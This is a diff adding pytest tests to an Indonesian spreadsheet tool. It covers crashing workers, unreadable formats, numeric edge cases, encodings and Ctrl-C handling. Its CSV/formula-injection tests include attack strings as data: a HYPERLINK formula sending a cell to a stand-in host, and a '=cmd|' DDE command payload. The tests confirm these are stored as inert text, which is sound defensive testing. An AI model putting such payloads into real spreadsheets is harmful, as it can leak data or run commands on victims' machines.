@@ -5,19 +5,32 @@ limits the README names (300 MiB, 10 s)."""
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import hashlib
+import io
 import json
+import os
 import shutil
 import subprocess
 import sys
 from pathlib import Path
 
 import pytest
-from hostile_files import Case, build_corpus
+from hostile_files import Case, build_corpus, stored_numbers
+from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
 
-from renaksi_xl import Renaksi
+from renaksi_xl import Renaksi, load
+from renaksi_xl.cli import WORKER_DIED, main
+from renaksi_xl.hitung import FileOutcome, recalculate_file
+from renaksi_xl.model import Text
+from renaksi_xl.rekap import csv_safe
 from renaksi_xl.sifat import with_inferred_sifat
+from renaksi_xl.templates import TemplateRequest, read_list
 from renaksi_xl.writer import write_workbook
+
+REAL_RECALCULATE = recalculate_file
 
 RUNNER = Path(__file__).with_name("robust_runner.py")
 PEAK_MIB = 300
@@ -131,3 +144,289 @@ def test_every_command_refuses_a_bad_file_plainly(
     assert (output / "rekap.xlsx").exists()  # the good file's consolidation is written
     peak = report["peak_mib"]
     assert isinstance(peak, float) and peak <= PEAK_MIB, peak
+
+
+# --- bulk commands: a dying worker, formats the tool cannot read -----------------------
+
+
+def _dying_worker(source: Path, in_place: bool) -> FileOutcome:
+    """What python-calamine did on a far cell: the process ends with no word."""
+    if source.name == "mati.xlsx":
+        os._exit(134)
+    return REAL_RECALCULATE(source, in_place)
+
+
+def test_hitung_survives_a_worker_that_dies(
+    good_workbook: Path,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    import multiprocessing
+
+    import renaksi_xl.hitung
+
+    assert multiprocessing.get_start_method() == "fork"  # the workers see the stand-in
+    for name in ("a.xlsx", "mati.xlsx", "b.xlsx"):
+        shutil.copyfile(good_workbook, tmp_path / name)
+    (tmp_path / "lama.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100))
+    (tmp_path / "kalk.ods").write_bytes(b"PK\x03\x04" + bytes(100))
+    monkeypatch.setattr(renaksi_xl.hitung, "recalculate_file", _dying_worker)
+    assert main(["hitung", str(tmp_path), "--jobs", "2"]) == 1
+    out = capsys.readouterr().out
+    lines = {line.split()[0]: line for line in out.splitlines() if line.startswith(str(tmp_path))}
+    assert set(lines) == {
+        str(tmp_path / n) for n in ("a.xlsx", "b.xlsx", "mati.xlsx", "lama.xls", "kalk.ods")
+    }
+    assert " ok " in lines[str(tmp_path / "a.xlsx")] and " ok " in lines[str(tmp_path / "b.xlsx")]
+    assert WORKER_DIED in lines[str(tmp_path / "mati.xlsx")]
+    assert "format .xls tidak dapat dibaca" in lines[str(tmp_path / "lama.xls")]
+    assert "format .ods tidak dapat dibaca" in lines[str(tmp_path / "kalk.ods")]
+    assert "2 berhasil, 3 gagal, 5 berkas" in out
+    assert not (tmp_path / "mati-dihitung.xlsx").exists()
+
+
+INJECTION = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
+
+
+def test_rekap_writes_the_readable_files_lists_the_others_and_runs_no_formula(
+    reference: Renaksi, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    folder = tmp_path / "masuk"
+    folder.mkdir()
+    hostile = dataclasses.replace(reference, opd=Text(INJECTION))
+    write_workbook(with_inferred_sifat(hostile), folder / "+cmd.xlsx")
+    write_workbook(with_inferred_sifat(reference), folder / "sidayu.xlsx")
+    (folder / "rusak.xlsx").write_bytes(b"PK\x03\x04 bukan zip")
+    (folder / "lama.xls").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(100))
+    target = tmp_path / "rekap.xlsx"
+    assert main(["rekap", str(folder), "-o", str(target)]) == 1
+    err = capsys.readouterr().err
+    assert "rusak.xlsx" in err and "lama.xls" in err and "Traceback" not in err
+    book = load_workbook(target)
+    rekap = book["Rekap"]
+    opd_cells = [rekap.cell(row=r, column=1) for r in (2, 3)]
+    assert {c.value.casefold() for c in opd_cells} == {  # type: ignore[union-attr]
+        INJECTION.casefold(),
+        "kecamatan sidayu",
+    }
+    assert all(c.data_type == "s" for c in opd_cells)  # text, not a live formula
+    assert not [
+        c.coordinate
+        for s in book.worksheets
+        for row in s.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
+    failed = book["Berkas gagal"]
+    assert [failed.cell(row=1, column=c).value for c in (1, 2)] == ["Berkas", "Alasan"]
+    assert sorted(Path(str(failed.cell(row=r, column=1).value)).name for r in (2, 3)) == [
+        "lama.xls",
+        "rusak.xlsx",
+    ]
+    # the CSV: OWASP's leading apostrophe, and whole rupiah
+    csv_target = tmp_path / "rekap.csv"
+    assert main(["rekap", str(folder), "-o", str(csv_target)]) == 1
+    text = csv_target.read_text(encoding="utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
+    header, body = rows[0], rows[1:]
+    by_file = {row[header.index("Berkas")]: row for row in body}
+    assert by_file["'+cmd.xlsx"][0].casefold() == "'" + INJECTION.casefold()
+    assert by_file["sidayu.xlsx"][header.index("Anggaran (Rp)")] == "1021600000"
+    program = header.index("Program: Pelayanan Administrasi Perkantoran")
+    assert by_file["sidayu.xlsx"][program] == "287238000"  # not 287238000,0
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+62 812", "'+62 812"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Kecamatan Sidayu", "Kecamatan Sidayu"),
+        (-5, -5),
+    ],
+)
+def test_csv_fields_never_start_a_formula(value: object, safe: object) -> None:
+    assert csv_safe(value) == safe
+
+
+def test_the_template_writer_keeps_formula_text_as_text(tmp_path: Path) -> None:
+    request = TemplateRequest(
+        opd=INJECTION, tahun=2021, tempat="=cmd|'/c calc'!A1", penandatangan="=1+1"
+    )
+    path = write_workbook(request.model(), tmp_path / request.file_name)
+    book = load_workbook(path)
+    formulas = {
+        c.value
+        for s in book.worksheets
+        for row in s.iter_rows()
+        for c in row
+        if c.data_type == "f" and isinstance(c.value, str)
+    }
+    assert not [f for f in formulas if "HYPERLINK" in f or "cmd" in f or f == "=1+1"]
+    kegiatan = book["Kegiatan"]
+    texts = [c for row in kegiatan.iter_rows() for c in row if c.value == "=1+1"]
+    assert texts and all(c.data_type == "s" for c in texts)
+
+
+# --- numbers ------------------------------------------------------------------------------
+
+
+def test_numbers_no_spreadsheet_can_hold_are_unreadable_values(
+    good_workbook: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = stored_numbers(
+        good_workbook, tmp_path / "tak-hingga.xlsx", {"O9": b"1e309", "K9": b"INF", "O13": b"NaN"}
+    )
+    assert main(["validasi", str(path), "--pilih", "RNX102"]) == 1
+    out = capsys.readouterr().out
+    for cell in ("Kegiatan!O9", "Kegiatan!K9", "Kegiatan!O13"):
+        assert f"RNX102 {cell}:" in out
+    assert main(["ringkas", str(path)]) == 0
+    assert main(["hitung", str(path)]) == 0
+
+
+def test_huge_numbers_are_recalculated(good_workbook: Path, tmp_path: Path) -> None:
+    path = stored_numbers(good_workbook, tmp_path / "besar.xlsx", {"O9": b"1e300", "K9": b"1e300"})
+    assert main(["hitung", str(path)]) == 0
+    values = CalamineWorkbook.from_path(str(tmp_path / "besar-dihitung.xlsx"))
+    grid = values.get_sheet_by_name("Kegiatan").to_python()
+    assert grid[8][14] == 1e300 and grid[7][14] == pytest.approx(1e300)  # O9 and its subtotal
+
+
+# --- text -----------------------------------------------------------------------------------
+
+
+def test_file_names_from_any_opd_name() -> None:
+    long_name = "Dinas Pendidikan dan Kebudayaan " * 12
+    name = TemplateRequest(long_name, 2021).file_name
+    assert len(name.encode()) < 200 and name.startswith("renaksi-dinas-pendidikan-dan-")
+    assert name != TemplateRequest(long_name + "Kota", 2021).file_name
+    javanese = {TemplateRequest(opd, 2021).file_name for opd in ("ꦱꦶꦝꦪꦸ", "ꦒꦿꦺꦱꦶꦏ꧀", "سيدايو")}
+    assert len(javanese) == 3 and all(n.startswith("renaksi-opd-") for n in javanese)
+    assert (
+        TemplateRequest("Dinas Perhubungan", 2021).file_name
+        == "renaksi-dinas-perhubungan-2021.xlsx"
+    )
+    assert TemplateRequest("Café Élysée", 2021).file_name == "renaksi-cafe-elysee-2021.xlsx"
+
+
+def test_a_long_opd_name_is_kept_whole_in_the_workbook(tmp_path: Path) -> None:
+    long_name = "Dinas Pemberdayaan Masyarakat dan Desa " * 8
+    assert main(["template", "--opd", long_name, "--tahun", "2021", "-o", str(tmp_path)]) == 0
+    (written,) = tmp_path.glob("*.xlsx")
+    renaksi = load(written)
+    assert renaksi.opd is not None and renaksi.opd.value.casefold() == long_name.strip().casefold()
+
+
+def test_control_characters_in_a_name_are_dropped(tmp_path: Path) -> None:
+    code = main(
+        ["template", "--opd", "Dinas\x01 Sosial\x1b", "--tahun", "2021", "-o", str(tmp_path)]
+    )
+    assert code == 0
+    renaksi = load(tmp_path / "renaksi-dinas-sosial-2021.xlsx")
+    assert renaksi.opd is not None and renaksi.opd.value == "Dinas Sosial"
+
+
+LIST = "OPD;TAHUN;TEMPAT\nDinas Sosial;2021;Gresik\nKecamatan Cerme;2021;Cerme\n"
+
+
+@pytest.mark.parametrize(
+    ("encoding", "content"),
+    [
+        ("utf-16", LIST),  # Excel's "Unicode text", with its byte-order mark
+        ("utf-16-le", LIST),
+        ("cp1252", LIST.replace("Cerme", "Cermé")),
+        ("utf-8-sig", LIST),
+    ],
+)
+def test_opd_lists_in_the_encodings_offices_save(
+    encoding: str, content: str, tmp_path: Path
+) -> None:
+    listing = tmp_path / "daftar.csv"
+    listing.write_bytes(content.encode(encoding))
+    requests, errors = read_list(listing)
+    assert errors == []
+    assert [(r.opd, r.tahun) for r in requests] == [
+        ("Dinas Sosial", 2021),
+        (content.splitlines()[2].split(";")[0], 2021),
+    ]
+
+
+def test_a_text_file_with_a_nul_is_refused(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = tmp_path / "renaksi.txt"
+    path.write_bytes(b"RENCANA AKSI\nKECAMATAN SIDAYU\x00\n")
+    assert main(["ringkas", str(path)]) == 3
+    assert "renaksi.txt': bukan berkas teks (berisi data biner)" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(
+    ("content", "message"),
+    [
+        (b"OPD;TAHUN\n" + b'"' + b"x" * 200_000 + b'";2021\n', "isian lebih panjang dari 128 KB"),
+        (b"OPD;TAHUN\n" + b"Dinas;2021\n" * 20_001, "paling banyak 20000 baris"),
+    ],
+)
+def test_csv_lists_beyond_reason_are_refused(
+    content: bytes, message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    listing = tmp_path / "daftar.csv"
+    listing.write_bytes(content)
+    assert main(["template", "--daftar", str(listing), "-o", str(tmp_path / "out")]) == 3
+    err = capsys.readouterr().err
+    assert "daftar.csv" in err and message in err and "Traceback" not in err
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_damaged_xlsx_list_is_refused(
+    corpus: dict[str, Case], tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    listing = tmp_path / "daftar.xlsx"
+    shutil.copyfile(corpus["xml-rusak.xlsx"].path, listing)
+    assert main(["template", "--daftar", str(listing), "-o", str(tmp_path / "out")]) == 3
+    err = capsys.readouterr().err
+    assert "daftar.xlsx" in err and "bukan XML yang sah" in err
+
+
+# --- Ctrl-C ---------------------------------------------------------------------------------
+
+
+STARTING = (
+    "import sys; print('mulai', flush=True); sys.argv[1:] = sys.argv[2:]; "
+    "import runpy; runpy.run_module('renaksi_xl', run_name='__main__')"
+)
+"""Python itself up (it prints), then the ``renaksi`` command as ``python -m renaksi_xl``."""
+
+
+@pytest.mark.parametrize("delay", [0.02, 0.1, 0.3, 1.0])
+def test_ctrl_c_at_any_moment_ends_without_a_traceback(
+    delay: float, good_workbook: Path, tmp_path: Path
+) -> None:
+    import signal
+    import time
+
+    source = tmp_path / "baik.xlsx"
+    shutil.copyfile(good_workbook, source)
+    before = digest(source)
+    process = subprocess.Popen(
+        [sys.executable, "-c", STARTING, "-", "validasi", "--tandai", str(source)],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+    )
+    assert process.stdout is not None and process.stdout.readline() == "mulai\n"
+    time.sleep(delay)  # from the first import of the package to well into the command
+    process.send_signal(signal.SIGINT)
+    _, err = process.communicate(timeout=60)
+    assert "Traceback" not in err, err
+    assert process.returncode in (130, 1), (process.returncode, err)  # stopped, or done
+    if process.returncode == 130:
+        assert err.strip().endswith("Dibatalkan.")
+    assert digest(source) == before
+    assert not list(tmp_path.glob(".*"))  # no temporary file left behind
